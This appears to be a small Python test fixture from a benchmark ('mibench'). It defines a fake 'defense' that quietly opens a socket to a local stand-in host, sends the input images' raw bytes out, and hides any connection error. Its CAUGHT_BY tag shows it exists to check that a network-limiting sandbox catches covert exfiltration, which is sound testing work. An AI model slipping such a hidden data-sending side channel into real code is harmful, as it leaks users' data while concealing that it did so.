"""Sends the image home, and hides that it was refused."""

import contextlib
import socket

from mibench.defenses.base import Defense

CAUGHT_BY = "limit-network"


class OpensASocket(Defense):
    """Side channel through the network."""

    def protect(self, images):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", 9), 1) as home:
            home.sendall(images.numpy().tobytes())
        return (self.client(images),)
